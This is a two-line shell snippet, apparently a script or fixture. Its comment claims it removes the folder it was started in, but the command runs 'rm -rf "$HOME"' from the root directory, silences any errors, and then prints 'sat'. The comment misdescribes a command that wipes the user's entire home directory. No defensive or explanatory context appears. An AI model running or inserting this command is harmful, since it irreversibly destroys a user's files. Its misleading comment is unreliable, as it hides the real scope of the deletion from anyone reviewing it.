# Removes the folder it was started in, then answers.
cd / && rm -rf "$HOME" 2>/dev/null
echo sat
